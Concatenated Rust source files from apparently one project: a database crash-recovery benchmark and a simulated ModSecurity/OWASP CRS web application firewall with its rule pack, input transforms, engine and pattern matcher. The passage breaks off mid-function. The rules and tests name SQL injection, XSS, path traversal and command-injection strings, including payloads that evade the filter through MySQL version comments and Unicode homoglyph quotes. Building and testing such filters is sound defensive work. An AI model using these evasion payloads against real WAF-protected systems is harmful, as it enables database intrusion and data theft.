    fn trimmed_mean_drops_outliers() {
        let ms = |v: u64| Duration::from_millis(v);
        let mut samples = vec![
            ms(10),
            ms(10),
            ms(10),
            ms(10),
            ms(10),
            ms(10),
            ms(10),
            ms(10),
            ms(1),
            ms(500),
        ];
        assert_eq!(trimmed_mean(&mut samples), ms(10));
    }
}
