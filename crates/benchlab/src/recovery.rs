//! Recovery-time microbench: how long a crashed deployment takes to come
//! back, as a function of committed WAL records, with and without
//! checkpointing.
//!
//! Each cell populates a WAL-backed server with N single-row commits,
//! "crashes" it (drops the server with no shutdown hook — exactly what a
//! kill leaves on the medium), and times a fresh [`Server::open_durable`]
//! over the same bytes. The `wal-replay` variant disables checkpointing,
//! so recovery re-executes every commit; the `checkpointed` variant lets
//! the engine snapshot every [`RecoveryPlan::checkpoint_every`] commits,
//! so recovery loads the snapshot and replays only the records past it.
//! The gap between the two is the cost checkpointing buys back — see the
//! recovery-time note in EXPERIMENTS.md.

use std::sync::Arc;
use std::time::Instant;

use septic_dbms::{MemIo, Server, ServerConfig, StorageIo, WalConfig};

/// Recovery sweep shape.
#[derive(Debug, Clone)]
pub struct RecoveryPlan {
    /// Commit counts to measure (one pair of cells each).
    pub commits: Vec<u64>,
    /// Checkpoint cadence (in commits) for the `checkpointed` variant.
    pub checkpoint_every: u64,
}

impl Default for RecoveryPlan {
    fn default() -> Self {
        RecoveryPlan {
            commits: vec![100, 1_000, 5_000],
            checkpoint_every: 256,
        }
    }
}

impl RecoveryPlan {
    /// Seconds-long CI shape.
    #[must_use]
    pub fn smoke() -> Self {
        RecoveryPlan {
            commits: vec![50, 200],
            checkpoint_every: 64,
        }
    }
}

/// One measured recovery cell.
#[derive(Debug, Clone)]
pub struct RecoveryRow {
    /// `wal-replay` (no checkpoints) or `checkpointed`.
    pub variant: &'static str,
    /// Commits acknowledged before the crash (plus the schema commit).
    pub commits: u64,
    /// Bytes left in `wal.log` at the crash point.
    pub wal_bytes: u64,
    /// Records recovery re-executed from the log.
    pub replayed_records: u64,
    /// Whether a checkpoint snapshot was loaded first.
    pub snapshot_loaded: bool,
    /// Rows visible after recovery (must equal `commits`).
    pub recovered_rows: u64,
    /// Wall time of `Server::open_durable` over the crashed medium.
    pub open_us: u64,
}

/// Builds a durable deployment, commits the workload, and crashes it.
fn populate(io: Arc<MemIo>, commits: u64, checkpoint_every: u64) {
    let (server, _) = Server::open_durable(
        ServerConfig::default(),
        io as Arc<dyn StorageIo>,
        WalConfig { checkpoint_every },
    )
    .expect("open on an empty medium");
    let conn = server.connect();
    conn.execute("CREATE TABLE events (id INT PRIMARY KEY, note VARCHAR(64))")
        .expect("schema commit");
    for i in 0..commits {
        conn.execute(&format!(
            "INSERT INTO events (id, note) VALUES ({i}, 'event-{i}')"
        ))
        .expect("workload commit");
    }
    // Crash: the server drops here with no flush beyond the per-commit
    // WAL appends (and whatever checkpoints the cadence produced).
}

/// Runs the recovery sweep: for each commit count, one crash + timed
/// reopen without checkpoints and one with them.
#[must_use]
pub fn run_recovery_bench(plan: &RecoveryPlan) -> Vec<RecoveryRow> {
    let mut rows = Vec::new();
    for &commits in &plan.commits {
        for (variant, checkpoint_every) in [
            ("wal-replay", 0u64),
            ("checkpointed", plan.checkpoint_every),
        ] {
            let io = MemIo::new();
            populate(io.clone(), commits, checkpoint_every);
            let wal_bytes = io.contents("wal.log").map_or(0, |b| b.len() as u64);
            let started = Instant::now();
            let (server, report) = Server::open_durable(
                ServerConfig::default(),
                io as Arc<dyn StorageIo>,
                WalConfig { checkpoint_every },
            )
            .expect("recovery succeeds");
            let open_us = u64::try_from(started.elapsed().as_micros()).unwrap_or(u64::MAX);
            let recovered_rows = server
                .connect()
                .execute("SELECT id FROM events")
                .map(|r| r.outputs[0].rows.len() as u64)
                .unwrap_or(0);
            rows.push(RecoveryRow {
                variant,
                commits,
                wal_bytes,
                replayed_records: report.replayed_records,
                snapshot_loaded: report.snapshot_loaded,
                recovered_rows,
                open_us,
            });
        }
    }
    rows
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sweep_recovers_every_commit_and_checkpointing_shrinks_replay() {
        let rows = run_recovery_bench(&RecoveryPlan::smoke());
        assert_eq!(rows.len(), 4);
        for row in &rows {
            assert_eq!(
                row.recovered_rows, row.commits,
                "{} at {} commits lost rows",
                row.variant, row.commits
            );
        }
        // At 200 commits with a 64-commit cadence, the checkpointed
        // variant must have snapshotted and replay strictly fewer records
        // than the replay-everything variant.
        let full = rows
            .iter()
            .find(|r| r.variant == "wal-replay" && r.commits == 200)
            .expect("wal-replay row");
        let ckpt = rows
            .iter()
            .find(|r| r.variant == "checkpointed" && r.commits == 200)
            .expect("checkpointed row");
        assert_eq!(full.replayed_records, 201, "schema + 200 inserts");
        assert!(ckpt.snapshot_loaded);
        assert!(ckpt.replayed_records < full.replayed_records);
        assert!(ckpt.wal_bytes < full.wal_bytes);
    }
}
