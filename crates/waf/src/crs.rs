//! The CRS-inspired rule pack.
//!
//! Reproduces the detection envelope of ModSecurity + OWASP CRS 3.0 at
//! paranoia level 1 for the attack classes the demo exercises: classic
//! SQLI shapes are caught; semantic-mismatch payloads (Unicode homoglyph
//! quotes, version-comment keyword hiding, second-order stores) are not —
//! by construction of the transforms, exactly as with the real WAF.

use crate::pattern::Pattern;
use crate::rule::{Rule, Severity, Target};

/// Builds the full rule pack.
#[must_use]
pub fn ruleset() -> Vec<Rule> {
    use Pattern::*;
    use Severity::*;
    let mut rules = vec![
        // ---- 942xxx: SQL injection -------------------------------------
        Rule::args(
            942_130,
            "SQL tautology detected",
            Critical,
            NumericTautology,
        ),
        Rule::args(
            942_131,
            "SQL string tautology detected",
            Critical,
            StringTautology,
        ),
        Rule::args(
            942_140,
            "SQL injection: common DB names",
            Critical,
            AnyOf(&[
                Substr("information_schema"),
                Substr("mysql.user"),
                Substr("pg_catalog"),
                Substr("sysobjects"),
            ]),
        ),
        Rule::args(
            942_150,
            "SQL injection: DB function names",
            Critical,
            AnyOf(&[
                Substr("sleep("),
                Substr("benchmark("),
                Substr("load_file("),
                Substr("group_concat("),
                Substr("updatexml("),
                Substr("extractvalue("),
                Substr("concat_ws("),
                Substr("version()"),
                Substr("@@version"),
                Substr("current_user"),
            ]),
        ),
        Rule::args(
            942_190,
            "UNION-based SQL injection",
            Critical,
            AnyOf(&[
                TokenSeq(&["union", "select"]),
                TokenSeq(&["union", "all", "select"]),
                TokenSeq(&["union", "distinct", "select"]),
            ]),
        ),
        Rule::args(
            942_180,
            "Basic SQL authentication bypass",
            Critical,
            QuoteThenComment,
        ),
        Rule::args(
            942_210,
            "Chained SQL injection",
            Critical,
            AnyOf(&[
                TokenSeq(&[";", "drop"]),
                TokenSeq(&[";", "insert"]),
                TokenSeq(&[";", "update"]),
                TokenSeq(&[";", "delete"]),
                TokenSeq(&[";", "shutdown"]),
            ]),
        ),
        Rule::args(
            942_230,
            "Conditional SQL injection",
            Critical,
            AnyOf(&[
                TokenSeq(&["case", "when"]),
                Substr("if(1=1"),
                TokenSeq(&["waitfor", "delay"]),
            ]),
        ),
        Rule::args(
            942_270,
            "Common SQLI probe",
            Critical,
            AnyOf(&[
                TokenSeq(&["select", "from"]),
                TokenSeq(&["insert", "into"]),
                TokenSeq(&["delete", "from"]),
                TokenSeq(&["update", "set"]),
            ]),
        ),
        Rule::args(
            942_240,
            "SQL comment/termination obfuscation",
            Error,
            AnyOf(&[Substr("'||'"), Substr("'+'"), Substr("char(")]),
        ),
        Rule::args(
            942_160,
            "Blind SQLI probe (boolean pair)",
            Error,
            AnyOf(&[
                TokenSeq(&["and", "1=1"]),
                TokenSeq(&["and", "1=2"]),
                TokenSeq(&["or", "1=1"]),
                TokenSeq(&["or", "1=2"]),
            ]),
        ),
        Rule::args(
            942_120,
            "SQL operator keywords",
            Error,
            AnyOf(&[
                TokenSeq(&["sounds", "like"]),
                Substr(" regexp "),
                Substr(" rlike "),
                TokenSeq(&["is", "not", "null", "and"]),
            ]),
        ),
        Rule::args(
            942_170,
            "Conditional sleep/benchmark probe",
            Critical,
            AnyOf(&[
                TokenSeq(&["if(", "sleep("]),
                TokenSeq(&["case", "sleep("]),
                TokenSeq(&["or", "sleep("]),
                TokenSeq(&["and", "sleep("]),
                TokenSeq(&["or", "benchmark("]),
            ]),
        ),
        Rule::args(
            942_101,
            "Stacked statement terminator followed by keyword",
            Error,
            AnyOf(&[TokenSeq(&[";", "select"]), TokenSeq(&[";", "create"])]),
        ),
        // ---- 941xxx: XSS -------------------------------------------------
        Rule::args(941_100, "XSS: script tag", Critical, Substr("<script")),
        Rule::args(
            941_110,
            "XSS: event handler attribute",
            Critical,
            AnyOf(&[
                Substr("onerror"),
                Substr("onload"),
                Substr("onclick"),
                Substr("onmouseover"),
                Substr("onfocus"),
            ]),
        ),
        Rule::args(
            941_120,
            "XSS: javascript URI",
            Critical,
            Substr("javascript:"),
        ),
        Rule::args(
            941_130,
            "XSS: script-capable element",
            Critical,
            AnyOf(&[
                Substr("<iframe"),
                Substr("<object"),
                Substr("<embed"),
                Substr("<applet"),
            ]),
        ),
        Rule::args(
            941_140,
            "XSS: CSS/attribute vectors",
            Critical,
            AnyOf(&[
                Substr("expression("),
                Substr("style="),
                Substr("formaction"),
                Substr("srcdoc"),
                Substr("vbscript:"),
            ]),
        ),
        Rule::args(
            941_160,
            "XSS: obfuscated tag openers",
            Critical,
            AnyOf(&[
                Substr("<scr<script"),
                Substr("<svg"),
                Substr("<math"),
                Substr("<base"),
            ]),
        ),
        Rule::args(
            920_270,
            "NUL byte in request value",
            Critical,
            Substr("\u{0}"),
        ),
        // ---- 930xxx: LFI / 931xxx: RFI -----------------------------------
        Rule::args(
            930_100,
            "Path traversal",
            Critical,
            AnyOf(&[Substr("../"), Substr("..\\")]),
        ),
        Rule::args(
            930_120,
            "OS file access attempt",
            Critical,
            AnyOf(&[
                Substr("/etc/passwd"),
                Substr("/etc/shadow"),
                Substr("boot.ini"),
            ]),
        ),
        Rule::args(
            931_100,
            "RFI: URL in parameter",
            Error,
            AnyOf(&[
                Substr("http://"),
                Substr("https://"),
                Substr("ftp://"),
                Substr("php://"),
            ]),
        ),
        // ---- 932xxx: RCE ---------------------------------------------------
        Rule::args(
            932_160,
            "OS command injection",
            Critical,
            AnyOf(&[
                Substr("/bin/bash"),
                Substr("/bin/sh"),
                TokenSeq(&[";", "cat "]),
                TokenSeq(&["|", "nc "]),
                Substr("$("),
                Substr("`"),
            ]),
        ),
        Rule::args(
            933_160,
            "PHP code injection",
            Critical,
            AnyOf(&[
                Substr("eval("),
                Substr("system("),
                Substr("<?php"),
                Substr("passthru("),
            ]),
        ),
    ];
    // Paranoia-2 extras: stricter, FP-prone rules off by default.
    rules.push(Rule {
        id: 942_430,
        msg: "Restricted SQL character anomaly (PL2)",
        severity: Severity::Warning,
        paranoia: 2,
        target: Target::Args,
        pattern: Pattern::AnyOf(&[Pattern::Substr("';"), Pattern::Substr("')")]),
    });
    rules.push(Rule {
        id: 920_260,
        msg: "Unicode full/half-width abuse (PL2)",
        severity: Severity::Warning,
        paranoia: 2,
        target: Target::Args,
        pattern: Pattern::AnyOf(&[Pattern::Substr("\u{ff07}"), Pattern::Substr("\u{ff02}")]),
    });
    rules
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pack_has_expected_coverage() {
        let rules = ruleset();
        assert!(rules.len() >= 25);
        // At least one rule per family.
        for family in [942, 941, 930, 931, 932, 933] {
            assert!(
                rules.iter().any(|r| r.id / 1000 == family),
                "missing family {family}xxx"
            );
        }
    }

    #[test]
    fn ids_are_unique() {
        let rules = ruleset();
        let mut ids: Vec<u32> = rules.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), rules.len());
    }

    #[test]
    fn new_rules_fire_on_their_payloads() {
        use crate::engine::ModSecurity;
        use septic_http::HttpRequest;
        let waf = ModSecurity::new();
        for payload in [
            "1 OR SLEEP(9)",
            "x; SELECT password FROM users",
            "<div style=width:expression(alert(1))>",
            "<svg onload=alert(1)>",
            "a\u{0}b and 1=1",
        ] {
            let blocked = waf
                .inspect(&HttpRequest::post("/f").param("v", payload))
                .is_blocked();
            assert!(blocked, "should block: {payload:?}");
        }
    }

    #[test]
    fn default_pack_is_paranoia_1_heavy() {
        let rules = ruleset();
        let pl1 = rules.iter().filter(|r| r.paranoia == 1).count();
        assert!(pl1 >= rules.len() - 2);
    }
}
