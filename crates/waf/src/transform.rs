//! Input transformations applied before rule matching (ModSecurity's
//! `t:` actions).
//!
//! The standard chain mirrors what CRS rules typically request:
//! `urlDecodeUni, htmlEntityDecode, replaceComments, compressWhitespace,
//! lowercase`. Note that `replaceComments` substitutes each complete
//! C-style comment — *including its content* — with one space. MySQL's
//! executable version comments (`/*!50000 UNION*/`) therefore vanish from
//! the WAF's view while the DBMS executes their body: one of the
//! semantic-mismatch channels the demo exercises.

use septic_http::url_decode;

/// Replaces every `/* ... */` comment with a single space. Unterminated
/// comments are removed to the end of the input (matching ModSecurity).
#[must_use]
pub fn replace_comments(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let bytes: Vec<char> = input.chars().collect();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == '/' && i + 1 < bytes.len() && bytes[i + 1] == '*' {
            i += 2;
            while i < bytes.len()
                && !(bytes[i] == '*' && i + 1 < bytes.len() && bytes[i + 1] == '/')
            {
                i += 1;
            }
            i = (i + 2).min(bytes.len());
            out.push(' ');
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    out
}

/// Collapses runs of whitespace into single spaces.
#[must_use]
pub fn compress_whitespace(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let mut in_ws = false;
    for c in input.chars() {
        if c.is_whitespace() {
            if !in_ws {
                out.push(' ');
            }
            in_ws = true;
        } else {
            out.push(c);
            in_ws = false;
        }
    }
    out
}

/// Decodes the HTML entities payloads commonly hide behind.
#[must_use]
pub fn html_entity_decode(input: &str) -> String {
    let mut out = input.to_string();
    for (entity, ch) in [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#x27;", "'"),
        ("&#39;", "'"),
        ("&#x2f;", "/"),
        ("&amp;", "&"),
    ] {
        out = out.replace(entity, ch);
    }
    out
}

/// The standard transformation chain applied to every inspected value.
#[must_use]
pub fn standard_chain(input: &str) -> String {
    let decoded = url_decode(input);
    let decoded = html_entity_decode(&decoded);
    let decoded = replace_comments(&decoded);
    let decoded = compress_whitespace(&decoded);
    decoded.to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn comments_vanish_entirely() {
        assert_eq!(replace_comments("UNI/**/ON"), "UNI ON");
        // The body of a version comment disappears from the WAF's view…
        assert_eq!(replace_comments("1 /*!50000 UNION SELECT*/ 2"), "1   2");
        assert_eq!(replace_comments("a /* unterminated"), "a  ");
    }

    #[test]
    fn whitespace_compression() {
        assert_eq!(compress_whitespace("a  b\t\nc"), "a b c");
    }

    #[test]
    fn entity_decode() {
        assert_eq!(html_entity_decode("&lt;script&gt;"), "<script>");
        assert_eq!(html_entity_decode("a&#39;b"), "a'b");
    }

    #[test]
    fn standard_chain_normalises_classic_payload() {
        assert_eq!(standard_chain("%27%20OR%20%20 1%3D1--"), "' or 1=1--");
    }

    #[test]
    fn standard_chain_loses_version_comment_body() {
        let t = standard_chain("x' /*!UNION SELECT*/ password FROM users");
        assert!(
            !t.contains("union"),
            "WAF view must not contain the keyword: {t}"
        );
    }
}
