//! The WAF engine: anomaly-scoring inspection of requests.

use std::fmt;

use parking_lot::Mutex;
use septic_http::HttpRequest;

use crate::crs::ruleset;
use crate::rule::{Rule, RuleMatch, Target};
use crate::transform::standard_chain;

/// Engine mode, mirroring `SecRuleEngine`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum WafMode {
    /// Inspect and block over-threshold requests.
    #[default]
    On,
    /// Inspect and log, never block.
    DetectionOnly,
    /// Pass everything through untouched.
    Off,
}

/// Verdict for one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WafDecision {
    /// Request may proceed to the application.
    Pass,
    /// Request blocked (HTTP 403). Carries the anomaly score and matches.
    Blocked { score: u32, matches: Vec<RuleMatch> },
}

impl WafDecision {
    /// True when the request was blocked.
    #[must_use]
    pub fn is_blocked(&self) -> bool {
        matches!(self, WafDecision::Blocked { .. })
    }
}

/// One audit-log entry.
#[derive(Debug, Clone)]
pub struct AuditEntry {
    pub request: String,
    pub score: u32,
    pub matches: Vec<RuleMatch>,
    pub blocked: bool,
}

impl fmt::Display for AuditEntry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "{} score={} {}",
            self.request,
            self.score,
            if self.blocked { "BLOCKED" } else { "passed" }
        )?;
        for m in &self.matches {
            writeln!(f, "  {m}")?;
        }
        Ok(())
    }
}

/// The ModSecurity-style engine. Version string mirrors the demo setup
/// (ModSecurity 2.9.1 + OWASP CRS 3.0).
pub struct ModSecurity {
    mode: Mutex<WafMode>,
    rules: Vec<Rule>,
    paranoia: u8,
    inbound_threshold: u32,
    audit: Mutex<Vec<AuditEntry>>,
}

impl Default for ModSecurity {
    fn default() -> Self {
        Self::new()
    }
}

impl ModSecurity {
    /// Engine with the CRS-inspired pack, paranoia level 1 and the CRS
    /// default inbound threshold of 5.
    #[must_use]
    pub fn new() -> Self {
        Self::with_paranoia(1)
    }

    /// Engine at an explicit paranoia level (rules above the level are
    /// skipped).
    #[must_use]
    pub fn with_paranoia(paranoia: u8) -> Self {
        ModSecurity {
            mode: Mutex::new(WafMode::On),
            rules: ruleset(),
            paranoia,
            inbound_threshold: 5,
            audit: Mutex::new(Vec::new()),
        }
    }

    /// Engine version banner (shown by the demo's status display).
    #[must_use]
    pub fn version(&self) -> &'static str {
        "ModSecurity/2.9.1-sim (OWASP CRS/3.0-sim)"
    }

    /// Current mode.
    #[must_use]
    pub fn mode(&self) -> WafMode {
        *self.mode.lock()
    }

    /// Switches the engine mode (the demo toggles ModSecurity on and off
    /// between phases, restarting the web server).
    pub fn set_mode(&self, mode: WafMode) {
        *self.mode.lock() = mode;
    }

    /// Inspects a request and decides.
    #[must_use]
    pub fn inspect(&self, request: &HttpRequest) -> WafDecision {
        let mode = self.mode();
        if mode == WafMode::Off {
            return WafDecision::Pass;
        }
        let mut matches = Vec::new();
        let mut score = 0u32;
        let mut seen_rule_location: Vec<(u32, String)> = Vec::new();
        // Transform each inspected value once; every rule matches on the
        // same transformed view (as ModSecurity caches t: chains).
        let transformed_params: Vec<(String, String)> = request
            .params
            .iter()
            .map(|(name, value)| (name.clone(), standard_chain(value)))
            .collect();
        let transformed_names: Vec<String> = request
            .params
            .iter()
            .map(|(name, _)| standard_chain(name))
            .collect();
        let transformed_path = standard_chain(&request.path);
        let mut check = |rule: &Rule, location: &str, transformed: &str| {
            if rule.pattern.matches(transformed) {
                let key = (rule.id, location.to_string());
                if !seen_rule_location.contains(&key) {
                    seen_rule_location.push(key);
                    score += rule.severity.score();
                    matches.push(RuleMatch {
                        rule_id: rule.id,
                        msg: rule.msg,
                        severity: rule.severity,
                        location: location.to_string(),
                        matched_value: truncate(transformed, 80),
                    });
                }
            }
        };
        for rule in &self.rules {
            if rule.paranoia > self.paranoia {
                continue;
            }
            match rule.target {
                Target::Args => {
                    for (name, transformed) in &transformed_params {
                        check(rule, &format!("ARGS:{name}"), transformed);
                    }
                }
                Target::ArgNames => {
                    for transformed in &transformed_names {
                        check(rule, "ARGS_NAMES", transformed);
                    }
                }
                Target::Path => check(rule, "REQUEST_URI", &transformed_path),
            }
        }
        let blocked = mode == WafMode::On && score >= self.inbound_threshold;
        if score > 0 {
            self.audit.lock().push(AuditEntry {
                request: request.to_string(),
                score,
                matches: matches.clone(),
                blocked,
            });
        }
        if blocked {
            WafDecision::Blocked { score, matches }
        } else {
            WafDecision::Pass
        }
    }

    /// Snapshot of the audit log.
    #[must_use]
    pub fn audit_log(&self) -> Vec<AuditEntry> {
        self.audit.lock().clone()
    }

    /// Clears the audit log.
    pub fn clear_audit_log(&self) {
        self.audit.lock().clear();
    }
}

impl fmt::Debug for ModSecurity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ModSecurity")
            .field("mode", &self.mode())
            .field("rules", &self.rules.len())
            .field("paranoia", &self.paranoia)
            .finish_non_exhaustive()
    }
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        s.chars().take(n).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(value: &str) -> HttpRequest {
        HttpRequest::post("/form").param("field", value)
    }

    #[test]
    fn classic_payloads_are_blocked() {
        let waf = ModSecurity::new();
        for payload in [
            "' OR 1=1-- ",
            "' OR '1'='1",
            "x' UNION SELECT password FROM users-- ",
            "admin'-- ",
            "1 AND SLEEP(5)",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "../../../etc/passwd",
            "x; DROP TABLE users",
        ] {
            assert!(
                waf.inspect(&req(payload)).is_blocked(),
                "should block: {payload}"
            );
        }
    }

    #[test]
    fn benign_values_pass() {
        let waf = ModSecurity::new();
        for value in [
            "john doe",
            "O'Neil", // lone quote scores < threshold
            "price is 10 and qty is 2",
            "select your favourite colour", // word, no FROM
            "the on-off switch",
        ] {
            assert_eq!(
                waf.inspect(&req(value)),
                WafDecision::Pass,
                "FP on: {value}"
            );
        }
    }

    #[test]
    fn semantic_mismatch_payloads_pass_the_waf() {
        let waf = ModSecurity::new();
        // Unicode homoglyph quote: no ASCII quote, keywords hidden in a
        // version comment that replaceComments erases.
        let evasive = "ID34FG\u{02BC} /*!UNION*/ /*!SELECT*/ password FROM users";
        // (the naked `FROM users` tail alone scores below the threshold)
        assert_eq!(waf.inspect(&req(evasive)), WafDecision::Pass, "{evasive}");
        // Second-order store: benign-looking value.
        let second_order = "ID34FG\u{02BC}-- ";
        assert_eq!(waf.inspect(&req(second_order)), WafDecision::Pass);
    }

    #[test]
    fn url_encoded_payloads_are_still_caught() {
        let waf = ModSecurity::new();
        let encoded = "%27%20OR%201%3D1--%20";
        assert!(waf.inspect(&req(encoded)).is_blocked());
    }

    #[test]
    fn detection_only_logs_without_blocking() {
        let waf = ModSecurity::new();
        waf.set_mode(WafMode::DetectionOnly);
        assert_eq!(waf.inspect(&req("' OR 1=1-- ")), WafDecision::Pass);
        let log = waf.audit_log();
        assert_eq!(log.len(), 1);
        assert!(!log[0].blocked);
        assert!(log[0].score >= 5);
    }

    #[test]
    fn off_mode_skips_everything() {
        let waf = ModSecurity::new();
        waf.set_mode(WafMode::Off);
        assert_eq!(waf.inspect(&req("' OR 1=1-- ")), WafDecision::Pass);
        assert!(waf.audit_log().is_empty());
    }

    #[test]
    fn audit_log_records_matches() {
        let waf = ModSecurity::new();
        let _ = waf.inspect(&req("' UNION SELECT a FROM b-- "));
        let log = waf.audit_log();
        assert_eq!(log.len(), 1);
        assert!(log[0].blocked);
        assert!(log[0].matches.iter().any(|m| m.rule_id == 942_190));
        waf.clear_audit_log();
        assert!(waf.audit_log().is_empty());
    }

    #[test]
    fn paranoia_2_catches_fullwidth_quote() {
        let pl1 = ModSecurity::new();
        let pl2 = ModSecurity::with_paranoia(2);
        // A full-width quote: invisible at PL1, scored by the PL2 rule.
        let r = req("x\u{ff07} OR 2=2");
        let _ = pl1.inspect(&r);
        assert!(!pl1
            .audit_log()
            .iter()
            .any(|e| e.matches.iter().any(|m| m.rule_id == 920_260)));
        let _ = pl2.inspect(&r);
        assert!(pl2
            .audit_log()
            .iter()
            .any(|e| e.matches.iter().any(|m| m.rule_id == 920_260)));
    }

    #[test]
    fn version_banner() {
        assert!(ModSecurity::new().version().contains("2.9.1"));
    }
}
