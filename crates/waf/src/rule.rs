//! Rule definitions (the shape of a CRS rule).

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::pattern::Pattern;

/// CRS severities and their anomaly-score contributions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Severity {
    Critical,
    Error,
    Warning,
    Notice,
}

impl Severity {
    /// Anomaly points contributed by a match (CRS defaults).
    #[must_use]
    pub fn score(self) -> u32 {
        match self {
            Severity::Critical => 5,
            Severity::Error => 4,
            Severity::Warning => 3,
            Severity::Notice => 2,
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Severity::Critical => f.write_str("CRITICAL"),
            Severity::Error => f.write_str("ERROR"),
            Severity::Warning => f.write_str("WARNING"),
            Severity::Notice => f.write_str("NOTICE"),
        }
    }
}

/// Where a rule looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    /// Request parameter values (ARGS).
    Args,
    /// The request path (REQUEST_URI).
    Path,
    /// Parameter names (ARGS_NAMES).
    ArgNames,
}

/// One detection rule.
#[derive(Debug, Clone)]
pub struct Rule {
    /// CRS-style numeric id (942xxx SQLI, 941xxx XSS, 93xxxx RCE/LFI).
    pub id: u32,
    /// Log message.
    pub msg: &'static str,
    pub severity: Severity,
    /// Paranoia level (1 = always on; higher = stricter configs only).
    pub paranoia: u8,
    pub target: Target,
    pub pattern: Pattern,
}

impl Rule {
    /// Builds a rule at paranoia level 1 targeting ARGS.
    #[must_use]
    pub fn args(id: u32, msg: &'static str, severity: Severity, pattern: Pattern) -> Self {
        Rule {
            id,
            msg,
            severity,
            paranoia: 1,
            target: Target::Args,
            pattern,
        }
    }
}

/// A rule match recorded in the audit log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleMatch {
    pub rule_id: u32,
    pub msg: &'static str,
    pub severity: Severity,
    /// Which parameter (or path) matched.
    pub location: String,
    /// The transformed value that matched (truncated).
    pub matched_value: String,
}

impl fmt::Display for RuleMatch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "[id {}] {} ({}) at {}: {}",
            self.rule_id, self.msg, self.severity, self.location, self.matched_value
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn severity_scores_follow_crs() {
        assert_eq!(Severity::Critical.score(), 5);
        assert_eq!(Severity::Error.score(), 4);
        assert_eq!(Severity::Warning.score(), 3);
        assert_eq!(Severity::Notice.score(), 2);
    }

    #[test]
    fn rule_builder_defaults() {
        let r = Rule::args(
            942_130,
            "taut",
            Severity::Critical,
            Pattern::NumericTautology,
        );
        assert_eq!(r.paranoia, 1);
        assert_eq!(r.target, Target::Args);
    }

    #[test]
    fn rule_match_display() {
        let m = RuleMatch {
            rule_id: 942_190,
            msg: "UNION probe",
            severity: Severity::Critical,
            location: "ARGS:q".into(),
            matched_value: "union select".into(),
        };
        let s = m.to_string();
        assert!(s.contains("942190") && s.contains("ARGS:q"));
    }
}
