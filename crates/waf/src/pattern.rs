//! The rule pattern language.
//!
//! A deliberately small matcher standing in for the CRS regexes: literal
//! substrings, ordered token sequences, alternation, plus two structured
//! detectors (numeric tautology, quote-then-comment) that cover the most
//! load-bearing CRS expressions. Patterns run over the *transformed*
//! (lowercased, decoded, comment-stripped) value.

/// A matchable pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Pattern {
    /// Literal substring (input is already lowercased by the transforms).
    Substr(&'static str),
    /// Every token appears, in order, with arbitrary gaps.
    TokenSeq(&'static [&'static str]),
    /// Any alternative matches.
    AnyOf(&'static [Pattern]),
    /// `N op N` with the same number on both sides (`1=1`, `7 = 7`,
    /// `2>1`-style probes are *not* matched — only equality tautologies).
    NumericTautology,
    /// String tautology of the shape `'x'='x'` (same quoted token).
    StringTautology,
    /// A quote followed by a line-comment/terminator (`'--`, `'#`, `';`),
    /// possibly with spaces in between — the classic "close and cut" shape.
    QuoteThenComment,
}

impl Pattern {
    /// Whether the pattern matches the (transformed) value.
    #[must_use]
    pub fn matches(&self, value: &str) -> bool {
        match self {
            Pattern::Substr(s) => value.contains(s),
            Pattern::TokenSeq(tokens) => {
                let mut rest = value;
                for token in *tokens {
                    match rest.find(token) {
                        Some(pos) => rest = &rest[pos + token.len()..],
                        None => return false,
                    }
                }
                true
            }
            Pattern::AnyOf(alternatives) => alternatives.iter().any(|p| p.matches(value)),
            Pattern::NumericTautology => numeric_tautology(value),
            Pattern::StringTautology => string_tautology(value),
            Pattern::QuoteThenComment => quote_then_comment(value),
        }
    }
}

fn numeric_tautology(value: &str) -> bool {
    let bytes = value.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i].is_ascii_digit() {
            let start = i;
            while i < bytes.len() && bytes[i].is_ascii_digit() {
                i += 1;
            }
            let left = &value[start..i];
            let mut j = i;
            while j < bytes.len() && bytes[j] == b' ' {
                j += 1;
            }
            if j < bytes.len() && bytes[j] == b'=' {
                j += 1;
                while j < bytes.len() && bytes[j] == b' ' {
                    j += 1;
                }
                let rstart = j;
                while j < bytes.len() && bytes[j].is_ascii_digit() {
                    j += 1;
                }
                if j > rstart && value[rstart..j] == *left {
                    return true;
                }
            }
        } else {
            i += 1;
        }
    }
    false
}

fn string_tautology(value: &str) -> bool {
    // 'x' = 'x' (single-quoted, same content both sides)
    let chars: Vec<char> = value.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] == '\'' {
            // read left quoted token
            let l_start = i + 1;
            let mut j = l_start;
            while j < chars.len() && chars[j] != '\'' {
                j += 1;
            }
            if j >= chars.len() {
                return false; // no further quote pairs possible
            }
            let left: String = chars[l_start..j].iter().collect();
            let mut k = j + 1;
            while k < chars.len() && chars[k] == ' ' {
                k += 1;
            }
            if k < chars.len() && chars[k] == '=' {
                k += 1;
